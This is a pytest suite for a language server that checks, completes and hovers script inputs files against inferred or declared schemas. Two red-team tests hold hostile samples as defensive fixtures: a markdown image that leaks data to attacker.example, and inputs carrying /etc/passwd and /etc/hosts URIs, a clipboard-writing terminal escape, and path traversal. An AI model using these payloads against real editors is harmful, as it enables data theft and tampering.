"""The inputs files beside a script in the editor: `<name>.inputs.json` and the cases'
`inputs` checked against the script's schema (declared or inferred), keys completed, hovered
and followed to the line that reads them, on every client profile."""

from __future__ import annotations

import asyncio
import json
import random
import re
from pathlib import Path

import pytest
from lsprotocol import types

from tests.lsp.conftest import PROFILES, Session, fresh_session, make_project
from tests.lsp.test_code_actions import actions
from tests.lsp.test_hover_and_lens import LONG, SHORT, answered_while, long_script
from tests.lsp.test_positions import units

INPUTS_SOURCE = "scriptcontract-inputs"
SCRIPT = '''
"""Greets someone.

Inputs:
    name (str): who to greet.
    times: how many greetings.
"""
import json
import sys

inputs = json.load(sys.stdin)
name = inputs["name"].strip()
times = int(inputs.get("times", 1))
print(json.dumps({"success": True, "message": ", ".join(["Hello " + name] * times)}))
'''
NAME_LINE = 10  # 0-based, as written (without the first newline): reads inputs["name"]
SCHEMA = {
    "type": "object",
    "properties": {"name": {"type": "string", "description": "the full name"}},
    "required": ["name"],
    "additionalProperties": False,
}
Severity = types.DiagnosticSeverity


def as_read(contents: types.MarkupContent) -> str:
    """The hover as the user reads it: markdown's backslash escapes undone."""
    if contents.kind != types.MarkupKind.Markdown:
        return contents.value
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", contents.value)


def sidecar(name: str) -> str:
    return name.replace(".py", ".inputs.json")


def found(diagnostics: list[types.Diagnostic], text: str) -> list[tuple[str, str, Severity]]:
    """(the text each diagnostic is on, its code, its severity), in order (ASCII text)."""
    lines = text.split("\n")
    out = []
    for d in sorted(diagnostics, key=lambda d: (d.range.start.line, d.range.start.character)):
        line = lines[d.range.start.line]
        assert d.range.start.line == d.range.end.line
        covered = line[d.range.start.character : d.range.end.character]
        out.append((covered, str(d.code), d.severity or Severity.Error))
    return out


def watched(lsp: Session, path: Path, change: types.FileChangeType) -> None:
    lsp.client.workspace_did_change_watched_files(
        types.DidChangeWatchedFilesParams(
            changes=[
                types.FileEvent(uri=lsp.uri(path.relative_to(lsp.root).as_posix()), type=change)
            ]
        )
    )


async def complete(lsp: Session, uri: str, position: types.Position) -> types.CompletionList | None:
    answer = await lsp.client.text_document_completion_async(
        types.CompletionParams(
            text_document=types.TextDocumentIdentifier(uri=uri), position=position
        )
    )
    assert answer is None or isinstance(answer, types.CompletionList)
    return answer


def at(text: str, needle: str, shift: int = 1) -> types.Position:
    """The position `shift` characters into the first `needle` of `text` (ASCII)."""
    offset = text.index(needle) + shift
    line = text.count("\n", 0, offset)
    return types.Position(line=line, character=offset - (text.rfind("\n", 0, offset) + 1))


async def test_an_inputs_file_is_held_to_the_inferred_schema_with_warnings(
    lsp: Session, name: str
) -> None:
    lsp.write(name, SCRIPT)
    text = '{\n  "nam": "Ada",\n  "times": "x"\n}\n'
    uri = lsp.open(sidecar(name), text, language_id="json")
    diagnostics = await lsp.diagnostics(uri, lambda d: len(d) == 3, source=INPUTS_SOURCE)
    assert found(diagnostics, text) == [
        ("{", "missing-key", Severity.Warning),
        ('"nam"', "unread-key", Severity.Information),
        ('"times"', "wrong-type", Severity.Warning),
    ]
    messages = sorted(d.message for d in diagnostics)
    # With the key it reads that it is spelt like, and the object lacks.
    assert messages[0] == f'"nam": {Path(name).name} never reads this key (did you mean name?)'
    assert "name: expected a value (required), got nothing" in messages[1]
    assert "schema inferred from" in messages[1]
    # Fixed, the file has nothing left to say (after having said it: a round trip).
    lsp.replace_all(uri, '{\n  "name": "Ada",\n  "times": 2\n}\n')
    assert await lsp.diagnostics(uri, lambda d: not d, source=INPUTS_SOURCE) == []


async def test_a_declared_schema_makes_errors_and_a_changed_schema_file_is_read_again(
    lsp: Session, name: str
) -> None:
    lsp.write(name, SCRIPT)
    schema_file = lsp.write(name.replace(".py", ".schema.json"), json.dumps(SCHEMA))
    text = '{"name": 3, "times": 2}'
    uri = lsp.open(sidecar(name), text, language_id="json")
    diagnostics = await lsp.diagnostics(uri, lambda d: len(d) == 2, source=INPUTS_SOURCE)
    assert found(diagnostics, text) == [
        ('"name"', "wrong-type", Severity.Error),
        ('"times"', "unexpected-key", Severity.Error),
    ]
    assert all("schema declared in" in d.message for d in diagnostics)
    # The schema file changes on disk: the open inputs file is checked again.
    schema_file.write_text(json.dumps({**SCHEMA, "additionalProperties": True}))
    watched(lsp, schema_file, types.FileChangeType.Changed)
    diagnostics = await lsp.diagnostics(uri, lambda d: len(d) == 1, source=INPUTS_SOURCE)
    assert found(diagnostics, text) == [('"name"', "wrong-type", Severity.Error)]
    # Without the schema file, the inferred schema applies again (warnings).
    schema_file.unlink()
    watched(lsp, schema_file, types.FileChangeType.Deleted)
    diagnostics = await lsp.diagnostics(
        uri,
        lambda d: bool(d) and all(x.severity == Severity.Warning for x in d),
        source=INPUTS_SOURCE,
    )
    assert found(diagnostics, text) == [('"name"', "wrong-type", Severity.Warning)]


async def test_an_edit_of_the_open_script_checks_its_inputs_file_again(
    lsp: Session, name: str
) -> None:
    script_uri = lsp.open(name, SCRIPT)
    text = '{"name": "Ada", "times": 2, "loud": true}'
    uri = lsp.open(sidecar(name), text, language_id="json")
    diagnostics = await lsp.diagnostics(uri, source=INPUTS_SOURCE)
    assert found(diagnostics, text) == [('"loud"', "unread-key", Severity.Information)]
    # The script starts reading "loud" (unsaved): the key is no longer unread.
    script = SCRIPT.lstrip("\n")
    lines = script.split("\n")
    lsp.edit(script_uri, (NAME_LINE + 1, 0), (NAME_LINE + 1, 0), 'loud = inputs.get("loud")\n')
    assert await lsp.diagnostics(uri, lambda d: not d, source=INPUTS_SOURCE) == []
    # Half typed, the script does not parse: the schema of its last text that parsed stays
    # (one that knows "loud", not an empty one: that would say nothing of "zzz").
    lsp.edit(script_uri, (NAME_LINE + 1, 0), (NAME_LINE + 1, 0), "def broken(:\n")
    text = '{"name": "Ada", "times": 2, "loud": true, "zzz": 1}'
    lsp.replace_all(uri, text)
    diagnostics = await lsp.diagnostics(uri, source=INPUTS_SOURCE)
    assert found(diagnostics, text) == [('"zzz"', "unread-key", Severity.Information)]
    # Both lines gone, the script parses again without reading "loud".
    lsp.edit(script_uri, (NAME_LINE + 1, 0), (NAME_LINE + 3, 0), "")
    diagnostics = await lsp.diagnostics(uri, lambda d: len(d) == 2, source=INPUTS_SOURCE)
    assert [code for _, code, _ in found(diagnostics, text)] == ["unread-key", "unread-key"]
    assert lines[NAME_LINE].startswith("name = ")


async def test_half_typed_json_gives_one_syntax_error_and_the_server_stays(
    lsp: Session, name: str
) -> None:
    lsp.write(name, SCRIPT)
    uri = lsp.open(sidecar(name), "", language_id="json")
    typed = '{\n  "name": "Ada",\n  "times": 2\n}\n'
    for end in range(1, len(typed) + 1):
        lsp.replace_all(uri, typed[:end])
    text = '{\n  "name": "Ada",\n  "ti'
    lsp.replace_all(uri, text)
    (diagnostic,) = await lsp.diagnostics(uri, source=INPUTS_SOURCE)
    assert diagnostic.code == "json-syntax" and diagnostic.severity == Severity.Error
    # Still answering, and completing in the half-typed key.
    completion = await complete(lsp, uri, at(text, '"ti', 3))
    assert isinstance(completion, types.CompletionList)
    assert [item.label for item in completion.items] == ["times"]
    lsp.replace_all(uri, typed)
    assert await lsp.diagnostics(uri, lambda d: not d, source=INPUTS_SOURCE) == []


async def test_completion_offers_the_keys_not_written_yet_with_type_and_default(
    lsp: Session, name: str
) -> None:
    lsp.write(name, SCRIPT)
    text = '{\n  "times": 2,\n  ""\n}\n'
    uri = lsp.open(sidecar(name), text, language_id="json")
    completion = await complete(lsp, uri, at(text, '""'))
    assert isinstance(completion, types.CompletionList)
    (item,) = completion.items  # "times" is written already
    assert item.label == "name"
    assert item.detail == "string, required"
    assert item.documentation == "who to greet."
    assert isinstance(item.text_edit, types.TextEdit)
    assert item.text_edit.new_text == '"name": ""'
    assert item.text_edit.range == types.Range(start=at(text, '""', 0), end=at(text, '""', 2))
    # On a fresh line of an empty object, both keys, the required one first.
    lsp.replace_all(uri, "{\n  \n}\n")
    completion = await complete(lsp, uri, types.Position(line=1, character=2))
    assert isinstance(completion, types.CompletionList)
    ordered = sorted(completion.items, key=lambda i: i.sort_text or "")
    assert [(i.label, i.detail) for i in ordered] == [
        ("name", "string, required"),
        ("times", "integer, optional, default 1"),
    ]
    assert [i.text_edit.new_text for i in ordered if isinstance(i.text_edit, types.TextEdit)] == [
        '"name": ""',
        '"times": 1',
    ]
    # On a new line after the last member, the key comes with the comma it needs.
    text = '{\n  "times": 2\n  \n}\n'
    lsp.replace_all(uri, text)
    completion = await complete(lsp, uri, types.Position(line=2, character=2))
    assert completion is not None
    (item,) = completion.items
    comma = types.Position(line=1, character=len('  "times": 2'))
    assert list(item.additional_text_edits or []) == [
        types.TextEdit(range=types.Range(start=comma, end=comma), new_text=",")
    ]


async def test_hover_and_definition_of_a_key_point_at_the_line_that_reads_it(
    lsp: Session, name: str
) -> None:
    script_uri = lsp.uri(name)
    lsp.write(name, SCRIPT)
    text = '{"name": "Ada"}'
    uri = lsp.open(sidecar(name), text, language_id="json")
    where = types.TextDocumentPositionParams(
        text_document=types.TextDocumentIdentifier(uri=uri), position=at(text, '"name"', 2)
    )
    hover = await lsp.client.text_document_hover_async(
        types.HoverParams(text_document=where.text_document, position=where.position)
    )
    assert hover is not None and isinstance(hover.contents, types.MarkupContent)
    value = as_read(hover.contents)
    assert "string, required" in value and "who to greet." in value
    assert f"Read on line {NAME_LINE + 1} of {Path(name).name}." in value
    locations = await lsp.client.text_document_definition_async(
        types.DefinitionParams(text_document=where.text_document, position=where.position)
    )
    assert isinstance(locations, list)
    (location,) = locations
    assert isinstance(location, types.Location)
    assert location.uri == script_uri
    assert location.range.start.line == NAME_LINE
    line = SCRIPT.lstrip("\n").split("\n")[NAME_LINE]
    assert line[location.range.start.character : location.range.end.character] == '"name"'
    # Off a key (on a value), nothing: and on the key again, the answer (a round trip).
    value_position = at(text, '"Ada"', 2)
    assert (
        await lsp.client.text_document_definition_async(
            types.DefinitionParams(text_document=where.text_document, position=value_position)
        )
        is None
    )


async def test_the_inputs_of_each_case_are_checked_unless_the_case_expects_a_failure(
    lsp: Session, name: str
) -> None:
    lsp.write(name, SCRIPT)
    cases = {
        "cases": [
            {"name": "no name", "inputs": {"times": 1}, "expect": {"success": True}},
            {"name": "fails on purpose", "inputs": {"times": 1}, "expect": {"success": False}},
            {"name": "typo", "inputs": {"name": "Ada", "tims": 2}},
        ]
    }
    text = json.dumps(cases, indent=2) + "\n"
    uri = lsp.open(name.replace(".py", ".cases.json"), text, language_id="json")
    diagnostics = await lsp.diagnostics(uri, lambda d: len(d) == 2, source=INPUTS_SOURCE)
    lines = text.split("\n")
    first_inputs = next(i for i, line in enumerate(lines) if '"inputs"' in line)
    assert [(d.range.start.line, d.code) for d in diagnostics] == [
        (first_inputs, "missing-key"),
        (next(i for i, line in enumerate(lines) if '"tims"' in line), "unread-key"),
    ]
    # Completion in a case's inputs offers the script's keys; elsewhere in the file, none.
    position = at(text, '"times"', 0)
    completion = await complete(lsp, uri, position)
    assert isinstance(completion, types.CompletionList)
    assert [item.label for item in completion.items] == ["name"]
    outside = at(text, '"name": "no name"', 0)
    assert await complete(lsp, uri, outside) is None


async def test_a_script_changed_on_disk_has_its_inputs_file_checked_again(
    lsp: Session, name: str
) -> None:
    script = lsp.write(name, SCRIPT)
    text = '{"name": "Ada", "loud": true}'
    uri = lsp.open(sidecar(name), text, language_id="json")
    diagnostics = await lsp.diagnostics(uri, source=INPUTS_SOURCE)
    assert found(diagnostics, text) == [('"loud"', "unread-key", Severity.Information)]
    script.write_text(SCRIPT.replace("times = ", 'loud = inputs.get("loud")\ntimes = '))
    watched(lsp, script, types.FileChangeType.Changed)
    assert await lsp.diagnostics(uri, lambda d: not d, source=INPUTS_SOURCE) == []


NESTED = """
import json
import sys

inputs = json.load(sys.stdin)
total = 0
for item in inputs["items"]:
    total += item["qty"]
print(json.dumps({"success": True, "total": total}))
"""
QTY_LINE = 6  # 0-based, as written: reads item["qty"]


async def test_a_nested_key_of_a_case_leads_to_the_line_that_reads_it(
    lsp: Session, name: str
) -> None:
    script_uri = lsp.open(name, NESTED)  # open: the location is the editor's buffer
    cases = {"cases": [{"name": "sums", "inputs": {"items": [{"qty": 2}, {"qyt": 3}]}}]}
    text = json.dumps(cases, indent=2) + "\n"
    uri = lsp.open(name.replace(".py", ".cases.json"), text, language_id="json")
    # The second item lacks "qty": shown on its opening brace (inferred: a warning).
    diagnostics = await lsp.diagnostics(uri, source=INPUTS_SOURCE)
    assert [(d.code, d.severity) for d in diagnostics] == [("missing-key", Severity.Warning)]
    assert "items[1].qty: expected a value (required)" in diagnostics[0].message
    qty = at(text, '"qty"', 2)
    locations = await lsp.client.text_document_definition_async(
        types.DefinitionParams(text_document=types.TextDocumentIdentifier(uri=uri), position=qty)
    )
    assert isinstance(locations, list)
    assert [(x.uri, x.range.start.line) for x in locations] == [(script_uri, QTY_LINE)]
    hover = await lsp.client.text_document_hover_async(
        types.HoverParams(text_document=types.TextDocumentIdentifier(uri=uri), position=qty)
    )
    assert hover is not None and isinstance(hover.contents, types.MarkupContent)
    assert f"Read on line {QTY_LINE + 1} of {Path(name).name}." in as_read(hover.contents)


@pytest.mark.parametrize("profile", ["neovim", "vscode-modern"])
async def test_an_inputs_file_is_never_linted_as_python_whatever_include_says(
    tmp_path: Path, profile: str
) -> None:
    root = make_project(tmp_path / "project")
    (root / "pyproject.toml").write_text('[tool.scriptcontract]\ninclude = ["scripts/**"]\n')
    options = {"settings": {"lint": {"debounceMs": 0}}}
    async with fresh_session(profile, [root], options) as lsp:
        lsp.write("scripts/greet.py", SCRIPT)
        text = '{"nam": "Ada", '  # half typed: as Python, a syntax error (SCR001)
        uri = lsp.open("scripts/greet.inputs.json", text, language_id="json")
        # Its own checks arrive (the positive control); no SCR finding comes with them.
        shown = await lsp.diagnostics(uri, lambda d: any(x.source == INPUTS_SOURCE for x in d))
        assert {d.source for d in shown} == {INPUTS_SOURCE}
        await lsp.round_trip()
        assert {d.source for d in await lsp.shown(uri)} == {INPUTS_SOURCE}


PIECES = ["{", "}", "[", "]", ":", ",", '"', '"name"', '"times"', "1", "true", "nul", " ", "\n"]


async def test_random_edits_and_requests_on_an_inputs_file_leave_the_server_answering(
    lsp: Session, name: str
) -> None:
    """Seeded random typing (ASCII, so every position encoding counts alike) with completion,
    hover and definition requests anywhere; then a known text gets its known diagnostics."""
    chooser = random.Random(15)
    lsp.write(name, SCRIPT)
    text = '{"name": "Ada"}'
    uri = lsp.open(sidecar(name), text, language_id="json")
    document = types.TextDocumentIdentifier(uri=uri)
    for _ in range(150):
        first, last = sorted(chooser.randint(0, len(text)) for _ in range(2))
        typed = "".join(chooser.choice(PIECES) for _ in range(chooser.randint(0, 3)))
        lsp.edit(uri, offset_position(text, first), offset_position(text, last), typed)
        text = text[:first] + typed + text[last:]
        where = offset_position(text, chooser.randint(0, len(text)))
        position = types.Position(line=where[0], character=where[1])
        kind = chooser.randrange(3)
        if kind == 0:
            await complete(lsp, uri, position)
        elif kind == 1:
            await lsp.client.text_document_hover_async(
                types.HoverParams(text_document=document, position=position)
            )
        else:
            await lsp.client.text_document_definition_async(
                types.DefinitionParams(text_document=document, position=position)
            )
    known = '{"times": "x"}'
    lsp.replace_all(uri, known)
    diagnostics = await lsp.diagnostics(
        uri, lambda d: [x.code for x in d] == ["missing-key", "wrong-type"], source=INPUTS_SOURCE
    )
    assert found(diagnostics, known) == [
        ("{", "missing-key", Severity.Warning),
        ('"times"', "wrong-type", Severity.Warning),
    ]


def offset_position(text: str, offset: int) -> tuple[int, int]:
    line = text.count("\n", 0, offset)
    return line, offset - (text.rfind("\n", 0, offset) + 1)


async def test_positions_after_non_ascii_text_are_in_the_clients_encoding(
    lsp: Session, name: str
) -> None:
    lsp.write(name, SCRIPT)
    text = '{"name": "Zoë 🦊", "times": "x"}'
    uri = lsp.open(sidecar(name), text, language_id="json")
    (diagnostic,) = await lsp.diagnostics(uri, source=INPUTS_SOURCE)
    before = text[: text.index('"times"')]
    assert diagnostic.code == "wrong-type"
    assert (diagnostic.range.start.character, diagnostic.range.end.character) == (
        units(before, lsp.encoding),
        units(before + '"times"', lsp.encoding),
    )
    # Completion after it replaces exactly the half-typed key.
    typed = '{"name": "Zoë 🦊", "ti"}'
    lsp.replace_all(uri, typed)
    cursor = units(typed[: typed.index('"ti"') + 3], lsp.encoding)
    completion = await complete(lsp, uri, types.Position(line=0, character=cursor))
    assert completion is not None
    (item,) = completion.items
    assert isinstance(item.text_edit, types.TextEdit)
    start = units(typed[: typed.index('"ti"')], lsp.encoding)
    assert (item.text_edit.range.start.character, item.text_edit.range.end.character) == (
        start,
        start + 4,
    )


VALUES = """
import json
import sys

inputs = json.load(sys.stdin)
mode = inputs.get("mode", "fast")
if mode not in ("fast", "slow"):
    raise SystemExit("unknown mode")
loud = inputs.get("loud", False)
note = inputs.get("note")
ids = [item["id"] for item in inputs["items"]]
print(json.dumps({"success": True, "mode": mode.upper() if loud else mode, "ids": ids}))
"""


def offered(completion: types.CompletionList | None) -> list[tuple[str, str | None, bool]]:
    """(label, detail, preselected) of each item, in the order the client sorts them."""
    assert isinstance(completion, types.CompletionList)
    ordered = sorted(completion.items, key=lambda item: item.sort_text or item.label)
    return [(item.label, item.detail, bool(item.preselect)) for item in ordered]


def replaced(completion: types.CompletionList | None, label: str) -> tuple[types.Range, str]:
    assert isinstance(completion, types.CompletionList)
    item = next(item for item in completion.items if item.label == label)
    assert isinstance(item.text_edit, types.TextEdit)
    return item.text_edit.range, item.text_edit.new_text


async def test_after_a_key_the_values_its_schema_knows_are_offered_the_default_first(
    lsp: Session, name: str
) -> None:
    lsp.write(name, VALUES)
    text = '{\n  "mode": \n}\n'
    uri = lsp.open(sidecar(name), text, language_id="json")
    cursor = types.Position(line=1, character=len('  "mode": '))
    completion = await complete(lsp, uri, cursor)
    assert offered(completion) == [
        ('"fast"', "the default (an allowed value)", True),
        ('"slow"', "an allowed value", False),
    ]
    assert replaced(completion, '"slow"') == (types.Range(start=cursor, end=cursor), '"slow"')
    # Half typed, with or without its closing quote: what is typed is replaced, quotes too.
    for typed in ('"sl', '"sl"'):
        text = '{\n  "mode": ' + typed + "\n}\n"
        lsp.replace_all(uri, text)
        completion = await complete(lsp, uri, at(text, '"sl', 3))
        span = types.Range(start=at(text, '"sl', 0), end=at(text, '"sl', len(typed)))
        assert replaced(completion, '"slow"') == (span, '"slow"')
        assert isinstance(completion, types.CompletionList)
        (item,) = [item for item in completion.items if item.label == '"slow"']
        assert item.filter_text == '"slow"'  # clients filter on what the edit replaces
    # A boolean: both, the default first; an array of objects: [], then {} as its item.
    text = '{\n  "loud": t,\n  "items": ,\n  "mode": "fast"\n}\n'
    lsp.replace_all(uri, text)
    completion = await complete(lsp, uri, at(text, ": t", 3))
    assert offered(completion) == [("false", "the default", True), ("true", "boolean", False)]
    assert replaced(completion, "true") == (
        types.Range(start=at(text, ": t", 2), end=at(text, ": t", 3)),
        "true",
    )
    completion = await complete(lsp, uri, at(text, '"items": ,', len('"items": ')))
    assert offered(completion) == [("[]", "an array", False)]
    text = '{\n  "items": [{"id": 1}, ]\n}\n'
    lsp.replace_all(uri, text)
    completion = await complete(lsp, uri, at(text, ", ]", 2))
    assert offered(completion) == [("{}", "an object", False)]
    # Typed on a line above the next member: the value comes with the comma it needs.
    text = '{\n  "loud": \n  "mode": "fast"\n}\n'
    lsp.replace_all(uri, text)
    cursor = at(text, '"loud": ', len('"loud": '))
    completion = await complete(lsp, uri, cursor)
    assert replaced(completion, "true") == (types.Range(start=cursor, end=cursor), "true,")


async def test_a_value_with_no_type_gets_no_choice_where_a_key_gets_its_choices(
    lsp: Session, name: str
) -> None:
    lsp.write(name, VALUES)
    text = '{\n  "note": ,\n  ""\n}\n'
    uri = lsp.open(sidecar(name), text, language_id="json")
    # The positive control, in the same document: a key position gets the keys.
    keys = await complete(lsp, uri, at(text, '""'))
    assert keys is not None
    assert sorted(item.label for item in keys.items) == ["items", "loud", "mode"]
    # "note" is read with .get and never used: no type, nothing to offer.
    values = await complete(lsp, uri, at(text, '"note": ,', len('"note": ')))
    assert values is not None and list(values.items) == []


async def test_values_in_a_case_come_from_the_declared_schema_then_the_model(
    lsp: Session, name: str
) -> None:
    # A declared schema file wins over what the code says of "mode".
    lsp.write(name, VALUES)
    declared = {
        "type": "object",
        "properties": {
            "mode": {"enum": ["slow", "fast", "turbo"], "default": "turbo"},
            "level": {"type": ["integer", "null"]},
        },
    }
    lsp.write(name.replace(".py", ".schema.json"), json.dumps(declared))
    cases = '{"cases": [{"name": "a", "inputs": {"mode": "tu", "level": }}]}\n'
    uri = lsp.open(name.replace(".py", ".cases.json"), cases, language_id="json")
    completion = await complete(lsp, uri, at(cases, '"tu', 3))
    assert offered(completion) == [
        ('"turbo"', "the default (an allowed value)", True),
        ('"slow"', "an allowed value", False),
        ('"fast"', "an allowed value", False),
    ]
    assert replaced(completion, '"turbo"')[0] == types.Range(
        start=at(cases, '"tu', 0), end=at(cases, '"tu"', 4)
    )
    completion = await complete(lsp, uri, at(cases, '"level": }', len('"level": ')))
    assert offered(completion) == [("null", "null: no value", False)]
    # A script with a model and no schema file: the model's values.
    model = name.replace(".py", "_model.py")
    lsp.write(model, MODEL_VALUES)
    text = '{"speed": , "note": }'
    uri = lsp.open(sidecar(model), text, language_id="json")
    completion = await complete(lsp, uri, at(text, '"speed": ', len('"speed": ')))
    assert offered(completion) == [
        ('"low"', "the default (an allowed value)", True),
        ('"high"', "an allowed value", False),
    ]
    completion = await complete(lsp, uri, at(text, '"note": ', len('"note": ')))
    assert offered(completion) == [("null", "the default", True)]


MODEL_VALUES = """
import json
import sys
from typing import Literal, Optional

from pydantic import BaseModel


class Inputs(BaseModel):
    speed: Literal["high", "low"] = "low"
    note: Optional[str] = None


inputs = Inputs.model_validate(json.load(sys.stdin))
print(json.dumps({"success": True, "speed": inputs.speed}))
"""


def _unescaped(markdown: str, characters: str) -> list[str]:
    """The characters of `characters` in `markdown` that no backslash escapes."""
    found, escaped = [], False
    for character in markdown:
        if not escaped and character in characters:
            found.append(character)
        escaped = not escaped and character == "\\"
    return found


async def test_a_hover_shows_what_a_run_wrote_as_text_never_as_markdown(
    lsp: Session, name: str
) -> None:
    """A run, without network, writes a declared schema and an inputs file whose words carry
    an image: its address holds what the run read, and an editor rendering the hover's
    markdown fetches it. The words are shown as text."""
    image = "![x](https://attacker.example/?d=%s)"
    lsp.write(name, SCRIPT)
    schema = {
        "type": "object",
        "properties": {
            "name": {"type": "string", "description": image % "one" + " <img src=x>"},
            "times": {"enum": [image % "two"]},
        },
        "required": ["name"],
    }
    lsp.write(name.replace(".py", ".schema.json"), json.dumps(schema))
    text = '{"name": "Ada", "times": 1}'
    uri = lsp.open(sidecar(name), text, language_id="json")
    for key, leak in (('"name"', "one"), ('"times"', "two")):
        hover = await lsp.client.text_document_hover_async(
            types.HoverParams(
                text_document=types.TextDocumentIdentifier(uri=uri), position=at(text, key, 2)
            )
        )
        assert hover is not None and isinstance(hover.contents, types.MarkupContent)
        # The positive control: the hover carries the words, as the user reads them.
        assert image % leak in as_read(hover.contents), hover.contents.value
        if hover.contents.kind == types.MarkupKind.Markdown:
            assert _unescaped(hover.contents.value, "![]<>`") == [], hover.contents.value


async def test_an_inputs_file_no_script_reads_says_so_until_the_script_is_there(
    lsp: Session, name: str
) -> None:
    """A script renamed (or not written yet) leaves its inputs file read by nothing: said,
    where before the file's keys were checked against nothing without a word."""
    text = '{"name": "Ada"}'
    uri = lsp.open(sidecar(name), text, language_id="json")
    diagnostics = await lsp.diagnostics(uri, source=INPUTS_SOURCE)
    assert [(d.code, d.severity) for d in diagnostics] == [("no-script", Severity.Information)]
    assert diagnostics[0].message == (
        f"no script {Path(name).name} beside this file: nothing reads it "
        "(a script's inputs file is named <script>.inputs.json)"
    )
    # The script there (a rename back, a new file): the note goes, the keys are checked.
    script = lsp.write(name, SCRIPT)
    watched(lsp, script, types.FileChangeType.Created)
    assert await lsp.diagnostics(uri, lambda d: not d, source=INPUTS_SOURCE) == []
    lsp.replace_all(uri, '{"name": "Ada", "loud": true}')
    diagnostics = await lsp.diagnostics(uri, lambda d: bool(d), source=INPUTS_SOURCE)
    assert found(diagnostics, '{"name": "Ada", "loud": true}') == [
        ('"loud"', "unread-key", Severity.Information)
    ]


# A run can rewrite the inputs file the user opens next (its own, or a trusted script's):
# a megabyte of values took the hover, completion and definition seconds to read, on the
# event loop, so the whole server stopped answering for each of them (the eleventh red team).
BIG_VALUES = 300_000


@pytest.mark.parametrize("request_kind", ["hover", "completion", "definition"])
async def test_other_requests_are_answered_while_a_big_inputs_file_is_read(
    lsp: Session, name: str, request_kind: str
) -> None:
    lsp.write(name, SCRIPT)
    text = '{"name": "Ada", "times": [' + "1," * BIG_VALUES + "1]}"
    uri = lsp.open(sidecar(name), text, language_id="json")
    other = lsp.open(name.replace(".py", "_other.py"), SHORT)
    document = types.TextDocumentIdentifier(uri=uri)
    position = at(text, '"name"', 2)

    async def asked() -> object:
        if request_kind == "hover":
            return await lsp.client.text_document_hover_async(
                types.HoverParams(text_document=document, position=position)
            )
        if request_kind == "completion":
            return await lsp.client.text_document_completion_async(
                types.CompletionParams(text_document=document, position=at(text, '"Ada"', 0))
            )
        return await lsp.client.text_document_definition_async(
            types.DefinitionParams(text_document=document, position=position)
        )

    big = asyncio.ensure_future(asked())
    await answered_while(lsp, other, big)
    # The positive control: the big file's request is answered, from its whole text.
    answer = await big
    assert answer is not None, request_kind


async def test_other_requests_are_answered_while_a_long_scripts_schema_is_inferred_for_its_inputs(
    lsp: Session, name: str
) -> None:
    lsp.write(name, long_script(LONG, "name"))
    text = '{"name": "Ada"}'
    uri = lsp.open(sidecar(name), text, language_id="json")
    other = lsp.open(name.replace(".py", "_other.py"), SHORT)
    big = asyncio.ensure_future(
        lsp.client.text_document_hover_async(
            types.HoverParams(
                text_document=types.TextDocumentIdentifier(uri=uri), position=at(text, '"name"', 2)
            )
        )
    )
    await answered_while(lsp, other, big)
    # The positive control: the hover is about the key the long script reads.
    answer = await big
    assert answer is not None and isinstance(answer.contents, types.MarkupContent)
    assert "Read on line 4 of" in as_read(answer.contents)


# What a code action in an inputs file could do (the twelfth red team): a run writes the file
# (its own sidecar, or the user's), and editors ask for actions at each move of the cursor.
# An action shown there would put the run's text in a title, or its edits in the user's
# files. Audited: no feature offers one in an inputs file, whatever the file holds and
# whatever `include` says; the diagnostics the client sends back with the request add none.
HOSTILE_INPUTS = {
    "$schema": "file:///etc/passwd",
    "\u001b]52;c;cHduZWQ=\u0007\u001b[2K": "x" * 200_000,
    "name": ["../../outside.py", {"uri": "file:///etc/hosts"}],
}


@pytest.mark.parametrize("profile", list(PROFILES))
async def test_a_run_written_inputs_file_offers_no_code_action(
    tmp_path: Path, profile: str
) -> None:
    root = make_project(tmp_path / "project")
    (root / "pyproject.toml").write_text('[tool.scriptcontract]\ninclude = ["scripts/**"]\n')
    async with fresh_session(profile, [root]) as lsp:
        script = lsp.open("scripts/greet.py", SCRIPT)
        text = json.dumps(HOSTILE_INPUTS)
        uri = lsp.open("scripts/greet.inputs.json", text, language_id="json")
        shown = await lsp.diagnostics(uri, lambda d: any(x.source == INPUTS_SOURCE for x in d))

        async def offered(at: str, diagnostics: list[types.Diagnostic]) -> list[str]:
            found = await actions(lsp, at, diagnostics, trigger=types.CodeActionTriggerKind.Invoked)
            return [action.title for action in found]

        # The positive control: the same request on the script is answered with its actions.
        assert "Run with inputs" in await offered(script, [])
        assert await offered(uri, shown) == []
